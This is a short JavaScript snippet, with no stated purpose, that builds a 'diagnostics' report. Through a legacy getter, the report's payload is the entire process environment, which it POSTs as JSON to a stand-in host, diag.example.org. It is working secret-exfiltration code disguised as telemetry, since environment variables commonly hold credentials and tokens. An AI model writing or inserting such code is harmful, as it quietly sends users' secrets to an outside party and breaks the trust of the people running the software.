// A report whose payload is a legacy getter for the environment, posted as JSON.
const report = { kind: 'diagnostics' };
report.__defineGetter__('payload', () => process.env);
fetch('https://diag.example.org/upload', { method: 'POST', body: JSON.stringify(report.payload) });
